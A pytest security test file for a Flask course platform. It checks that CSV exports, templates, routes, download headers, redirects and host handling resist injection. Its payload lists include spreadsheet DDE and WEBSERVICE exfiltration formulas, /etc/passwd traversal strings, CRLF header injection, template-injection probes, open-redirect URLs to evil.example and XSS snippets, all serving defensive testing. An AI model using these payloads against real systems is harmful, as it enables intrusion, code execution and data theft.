"""What is typed, asked for or sent along stays what it is: no formula, no header, no template, no path, no address."""

import csv
import io
import re
from collections.abc import Iterator
from urllib.parse import quote, unquote, urljoin, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from playwright.sync_api import Browser
from werkzeug.datastructures import Headers
from werkzeug.routing import Rule
from werkzeug.test import create_environ, run_wsgi_app

from app.accounts.roles import Role
from app.authoring.folders import write_folder
from app.markup.sanitise import TooMuchHtml, sanitise
from app.platform import throttle
from app.platform.spreadsheets import csv_lines
from tests.builders import course_files, enrolled, fields_of, person, published, send, sign_in

SLUG = "localizing-the-sdgs"
COURSE = f"/learn/{SLUG}"
SITE = "http://localhost"

# ----- Formulas -----

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1)",
    "−1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\u00ad@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?"&A1,"Open")',
    '=WEBSERVICE(CONCATENATE("https://example.org/",A1))',
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '";=1+1',
    "a;=1+1",
    "a;\u200b=1+1",
    'a";"=1+1',
    "a\n=1+1",
    "a\r\n@SUM(1)",
    "a\t+1",
    'a;\u2060"@SUM(1)',
)


@pytest.mark.parametrize("typed", FORMULAS)
def test_no_cell_is_taken_for_a_formula_wherever_a_program_divides(typed: str) -> None:
    text = "".join(csv_lines(["Header"], [[typed]])).removeprefix("\ufeff")
    _header, [cell] = csv.reader(io.StringIO(text, newline=""))
    unseen = re.compile(r"^[\s\"\u00ad\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]+")
    parts = [unseen.sub("", part) for part in re.split(r"[;\t\r\n]", cell)]
    assert [part for part in parts if part.startswith(tuple("=+-@＝＋－＠﹦﹢﹣﹫−"))] == []


# ----- Templates and formats -----

TEMPLATES = (
    "{{7*7}}",
    "{% raw %}x{% endraw %}",
    "{%7*7%}",
    "{{config}}",
    "{{ self.__init__.__globals__ }}",
    "{# hidden #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(name)s",
    "%(num)d",
    "100%s",
    "%n%x",
)


@pytest.mark.parametrize("typed", TEMPLATES)
def test_what_looks_like_a_template_is_shown_as_it_was_typed(client: FlaskClient, typed: str) -> None:
    shown = typed.replace("<", "&lt;").replace(">", "&gt;")
    published(course_files(title=f"'A {typed} course'"))
    newcomer = {"name": typed, "organisation": typed, "email": "a@example.org", "password": "seven quiet rivers"}
    assert send(client, "/register", newcomer).status_code == 303
    assert f"Welcome, {shown}." in client.get("/learn").text
    assert f'value="{shown}"' in client.get("/account").text
    assert f"A {shown} course" in client.get(f"/courses/{SLUG}").text
    send(client, f"{COURSE}/enrol", {"expectation": typed})
    assert shown in client.get(f"{COURSE}/completed").text


# ----- Paths -----

PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%5c..%5cetc%5cpasswd",
    "....//....//etc/passwd",
    "..;/..;/etc/passwd",
    "%2fetc%2fpasswd",
    "file:%2f%2f%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "%uff0e%uff0e%u2215etc",
    "..%ef%bc%8f..%ef%bc%8fetc",
    "%00",
    "a%00.md",
    "..%00/",
    "secret-key",
    "..%2fsecret-key",
    ".revision",
    "course.md",
    "%0d%0aSet-Cookie:%20a=1",
    "a%0ab",
    "%ff%fe",
    "%f0%9f%92%a9",
    "%e2%80%ae",
    "x" * 3000,
    "'%20OR%201=1--",
    "%25%5f",
    "-1",
    "99999999999999999999",
    "0",
    "1e309",
    "%D9%A3",
    "CON",
    "~root",
    "$HOME",
    "|id",
)


def addresses_of(rules: Iterator[Rule], told: str) -> Iterator[str]:
    """Every route with this in place of each of its parts, by turns.

    What holds no digit is no number: where one is meant there is no such route, which one address shows as well as
    hundreds.
    """
    without_digits = not re.search(r"\d", unquote(told))
    for rule in rules:
        parts = sorted(rule.arguments)
        for changed in parts:
            if without_digits and f"<int:{changed}>" in rule.rule:
                continue
            address = rule.rule
            for part in parts:
                known = {"slug": SLUG, "unit_key": "check", "digest": "0" * 32, "number": "1", "code": "x"}
                address = re.sub(rf"<[^<>]*\b{part}>", told if part == changed else known.get(part, "x"), address)
            yield address


def test_no_route_leads_out_of_its_place_or_breaks_whatever_stands_in_its_address(each_app: Flask) -> None:
    published()
    client = each_app.test_client()
    staff = person(Role.UCLG_LEARNING)
    enrolled(staff)
    sign_in(client, staff)
    met = []
    for told in PATHS:
        rules = (rule for rule in each_app.url_map.iter_rules() if "GET" in (rule.methods or ()) and rule.arguments)
        for address in addresses_of(rules, told):
            throttle.forget_all()
            with client.get(address) as answer:
                leaks = b"root:" in answer.data or str(each_app.config["SECRET_KEY"]).encode() in answer.data
                injects = "a=1" in str(answer.headers.getlist("Set-Cookie"))
                if answer.status_code >= 500 or leaks or injects:
                    met.append(f"{address}: {answer.status_code}")
    assert met == []


@pytest.mark.parametrize("told", [path for path in PATHS if len(path) < 100])
def test_nothing_but_the_files_of_the_site_is_served_as_one(app: Flask, client: FlaskClient, told: str) -> None:
    static = str(app.jinja_env.globals["static_file"]("css"))  # type: ignore[operator]
    for address in (f"{static}/{told}", f"/static/{told}", f"{static}/../../{told}", f"/{told}"):
        with client.get(address) as answer:
            assert answer.status_code in {301, 302, 308, 404}, address


@pytest.mark.parametrize("key", ["\x00", "a\x00b", "x" * 100, "\ud7ff", "' OR 1=1--", "%00"])
def test_the_key_of_a_form_may_be_anything(each_app: Flask, key: str) -> None:
    client = each_app.test_client()
    sign_in(client, person())
    form = fields_of(client.get("/account").text)
    assert client.post("/account", data={**form, "name": "Amina", "once": key}).status_code in {303, 400, 422}


HOSTILE_NAMES = (
    "../out.md",
    "a/../../out.md",
    "/tmp/out-of-a-course.md",
    "..",
    "media/../../out.md",
    "linked/out.md",
)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_course_fetched_into_a_folder_writes_nothing_outside(app: Flask, name: str) -> None:
    courses = app.config["COURSES"]
    outside, folder = courses / "outside", courses / "inside"
    outside.mkdir()
    if name.startswith("linked"):
        (courses / "inside-link").symlink_to(outside)
        folder, name = courses / "inside-link", "../out.md"
    with pytest.raises((ValueError, FileExistsError)):
        write_folder(folder, {name: b"written"}, "digest")
    assert [path for path in courses.rglob("*out*.md")] == []


# ----- Headers -----


@pytest.mark.parametrize(
    "name",
    [
        "a%0d%0aSet-Cookie:%20a=1.csv",
        "a%0aX-Injected:%20yes.csv",
        'a";filename="evil.html',
        "a;filename=evil.html.csv",
        "a%22%0d%0a%0d%0a<script>.csv",
        "%e2%80%aevsc.exe",
        "a%00.html",
        "..%5c..%5cevil.exe",
        "\u2028x.csv",
        "x" * 2000,
    ],
)
def test_the_name_of_a_download_stays_within_its_header(client: FlaskClient, name: str) -> None:
    published(course_files(more={"media/a.csv": "a,b", "1-why-local/1-lesson-1.md": LINKED}))
    somebody = person()
    enrolled(somebody)
    sign_in(client, somebody)
    found = re.search(r'href="/media/([0-9a-f]{32})/a.csv"', client.get(f"{COURSE}/lesson-1").text)
    assert found is not None
    answer = client.get(f"/media/{found[1]}/{name}")
    assert answer.status_code in {200, 404}
    assert no_header_is_broken(answer.headers)
    if answer.status_code == 200:
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["Content-Type"].startswith("text/csv")
        assert "sandbox" in answer.headers["Content-Security-Policy"]


LINKED = "---\ntitle: Lesson\n---\n\nSee [the list](../media/a.csv).\n"


def no_header_is_broken(headers: Headers) -> bool:
    """Whether each header is one line, and none was slipped in."""
    lines = [f"{name}: {value}" for name, value in headers]
    return not any(
        re.search(r"[\r\n\x00]", line) or line.startswith(("X-Injected", "Set-Cookie: a=1")) for line in lines
    )


def test_what_a_request_calls_itself_is_not_repeated(client: FlaskClient) -> None:
    answer = client.get("/no-such-page", headers={"X-Request-Id": "told-by-the-request", "User-Agent": "told-too"})
    assert "told-" not in answer.text + str(answer.headers)


# ----- Where one is led -----

ELSEWHERE = (
    "https://evil.example/",
    "http:evil.example",
    "https:/evil.example",
    "https:evil.example",
    "HTTPS://evil.example",
    "//evil.example",
    "///evil.example",
    "////evil.example/%2f..",
    "/\\evil.example",
    "\\/evil.example",
    "\\\\evil.example",
    "/\\/evil.example",
    "/\\\\evil.example",
    "//\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "/\r/evil.example",
    "\t//evil.example",
    " //evil.example",
    "\x00//evil.example",
    "\x0b//evil.example",
    "\u00a0//evil.example",
    "/\x00/evil.example",
    "/\x01/evil.example",
    "/.//evil.example",
    "/..//evil.example",
    "/%2e//evil.example",
    "/%2f/evil.example",
    "/%2f%2fevil.example",
    "/%5cevil.example",
    "/%09/evil.example",
    "/%0d%0aLocation:%20https://evil.example",
    "/\r\nLocation: https://evil.example",
    "/learn/..//evil.example",
    "/courses//evil.example/..",
    "/@evil.example",
    "//localhost@evil.example",
    "//localhost:80@evil.example",
    "https://localhost@evil.example",
    "https://localhost.evil.example",
    "//evil.example#localhost",
    "//evil.example?localhost",
    "/／evil.example",
    "／／evil.example",
    "/⁄/evil.example",
    "/∕evil.example",
    "//evil。example",
    "//evil%E3%80%82example",
    "//[::1]",
    "//[evil",
    "//0x7f.1",
    ".evil.example",
    "evil.example",
    "?next=//evil.example",
    "#//evil.example",
    ";//evil.example",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "/javascript:alert(1)",
    "data:text/html,x",
    "mailto:a@evil.example",
    "x" * 5000,
    "/" + "x" * 5000,
)


def way_after_signing_in(client: FlaskClient, wanted: str) -> list[str]:
    """The addresses one is led to, step by step, as they stand in the answers."""
    answer = client.get("/sign-in", query_string={"next": wanted})
    led: list[str] = []
    while 300 <= answer.status_code < 400 and len(led) < 5:
        assert no_header_is_broken(answer.headers)
        led.append(answer.location)
        parts = urlsplit(urljoin(SITE, answer.location))
        path = unquote(parts.path).encode().decode("latin-1")
        # Sent as it is: the test client would take two slashes for the beginning of a host.
        answer = client.get("/", query_string=parts.query, environ_overrides={"PATH_INFO": path})
    return led


@pytest.mark.parametrize("wanted", ELSEWHERE)
def test_nobody_is_led_to_another_site(client: FlaskClient, wanted: str) -> None:
    sign_in(client, person())
    led = way_after_signing_in(client, wanted)
    # A request with such a character is refused as a whole.
    assert led or "\x00" in wanted
    for address in led:
        assert address.startswith(f"{SITE}/") or re.match(r"/(?![/\\])", address), address


def test_a_browser_reads_each_of_these_addresses_as_one_of_this_site(client: FlaskClient, browser: Browser) -> None:
    sign_in(client, person())
    led = sorted({address for wanted in ELSEWHERE for address in way_after_signing_in(client, wanted)})
    page = browser.new_page()
    origins = page.evaluate("(all) => all.map((one) => new URL(one, 'http://localhost/sign-in').origin)", led)
    page.close()
    assert set(origins) == {SITE}


@pytest.mark.parametrize("wanted", ["/" + "x" * 5000, "//evil.example", "/courses\x01"])
def test_whoever_registers_arrives_whatever_they_wanted(each_app: Flask, wanted: str) -> None:
    client = each_app.test_client()
    newcomer = {"name": "Amina", "email": "amina@example.org", "password": "seven quiet rivers", "next": wanted}
    assert send(client, "/register", newcomer).location == "/learn"


@pytest.mark.parametrize(
    "path", ["//evil.example/x", "/%5Cevil.example", "/%2F/evil.example", "/%09/evil.example", "/x%3Fy=%22%3E<b>"]
)
def test_the_links_of_a_page_that_is_not_there_stay_on_this_site(
    client: FlaskClient, browser: Browser, path: str
) -> None:
    raw = path.replace("%5C", "\\").replace("%2F", "/").replace("%09", "\t").replace("%3F", "?").replace("%22%3E", '">')
    html = client.get("/", environ_overrides={"PATH_INFO": raw}).text
    links = [link.replace("&amp;", "&") for link in re.findall(r'href="([^"#]*)"', html)]
    assert any("lang=fr" in link for link in links)
    page = browser.new_page()
    origins = page.evaluate("(all) => all.map((one) => new URL(one, 'http://localhost/x').origin)", links)
    page.close()
    assert set(origins) == {SITE}


# ----- By what name the site is asked for -----

HOSTS = (
    "evil.example",
    "evil.example:8443",
    "localhost@evil.example",
    "localhost:80@evil.example",
    '"><script>alert(1)</script>',
    "a b",
    "evil.example/../x",
    "evil.example?x",
    "evil.example#x",
    "[::1]",
    "[evil",
    "",
    ":",
    "localhost:99999",
    "localhost:x",
    "%0d%0aSet-Cookie: a=1",
    "ⓔvil.example",
    "x" * 300,
)


@pytest.mark.parametrize("host", HOSTS)
def test_a_false_name_of_the_site_breaks_nothing_and_is_told_to_nobody_else(
    app: Flask, client: FlaskClient, host: str
) -> None:
    published()
    sent = quote(host, safe='"<>()/@:?#[]% ') if not host.isascii() else host
    for address in ("/", "/courses", f"/courses/{SLUG}", "/account", "/no-such-page"):
        answer = client.get(
            address, headers={"X-Forwarded-Host": "forwarded.example"}, environ_overrides={"HTTP_HOST": sent}
        )
        assert answer.status_code < 500
        assert "<script>alert" not in answer.text
        assert "forwarded.example" not in answer.text + str(answer.headers)
        if answer.status_code == 302:
            assert answer.location.startswith("/")
        again = app.test_client().get(address)
        assert "evil" not in again.text


@pytest.mark.parametrize(
    "host", ["xn--", "xn--a-\u00e9", "a..b", "a b", "[evil", "", "x" * 300, "a\r\nb", "evil.example/x"]
)
def test_a_request_for_a_site_that_can_have_no_such_name_gets_no_page(app: Flask, host: str) -> None:
    body, status, headers = run_wsgi_app(app.wsgi_app, {**create_environ("/"), "HTTP_HOST": host})
    assert status == "400 BAD REQUEST"
    assert b"".join(body) == b"Bad Request\n"
    assert headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "host", ["localhost:8000", "learning_forum", "a.example.org.", "[::1]:8000", "xn--bcher-kva.example", "10.0.0.1"]
)
def test_a_site_may_have_any_name_that_one_can_have(app: Flask, host: str) -> None:
    _body, status, _headers = run_wsgi_app(app.wsgi_app, {**create_environ("/"), "HTTP_HOST": host})
    assert status == "200 OK"


def test_nobody_hides_behind_another_address_from_the_counting_of_tries(client: FlaskClient) -> None:
    throttle.forget_all()
    somebody = person()
    form = fields_of(client.get("/sign-in").text)
    fields = {**form, "email": somebody.email, "password": "not the right one"}
    statuses = [
        client.post("/sign-in", data=fields, headers={"X-Forwarded-For": f"10.0.0.{number}"}).status_code
        for number in range(21)
    ]
    throttle.forget_all()
    assert (statuses[0], statuses[-1]) == (422, 429)


# ----- Too much -----


@pytest.mark.parametrize(
    "piece", ["<div>", "</x><div>", "</p><div>", "<div></b>", "<DIV></Br>", "<b><div></b>", "<svg><g>"]
)
def test_html_nested_too_deeply_is_refused_however_it_is_written(piece: str) -> None:
    with pytest.raises(TooMuchHtml):
        sanitise(piece * 500)


@pytest.mark.parametrize(
    ("fields", "status"),
    [
        ({"name": "x" * 100_000}, 422),
        ({"organisation": "<div>" * 20_000}, 422),
        ({"name": "[" * 400_000}, 422),
        ({"name": "x" * (2 * 1024 * 1024 + 1)}, 413),
        ({f"field-{number}": "x" for number in range(5_000)}, 422),
        ({"country": "x" * 100_000}, 422),
    ],
    ids=["long", "deep", "brackets", "larger than a request may be", "many fields", "choice"],
)
def test_too_much_is_refused_by_its_size(client: FlaskClient, fields: dict[str, str], status: int) -> None:
    sign_in(client, person())
    form = fields_of(client.get("/account").text)
    answer = client.post("/account", data={**form, "name": "", **fields})
    assert answer.status_code == status


@pytest.mark.parametrize("address", ["/courses?q=", "/verify?code=", "/sign-in?next=/", "/courses?lang=", "/?light="])
def test_an_address_of_any_length_is_answered(client: FlaskClient, address: str) -> None:
    for told in ("x" * 50_000, "%00" * 5_000, "%F0%9F%92%A9" * 5_000, "&a=" * 20_000):
        assert client.get(address + told).status_code in {200, 400, 422}


def test_a_very_long_password_is_answered_like_any_wrong_one(client: FlaskClient) -> None:
    throttle.forget_all()
    somebody = person()
    assert send(client, "/sign-in", {"email": somebody.email, "password": "x" * 1_000_000}).status_code == 422
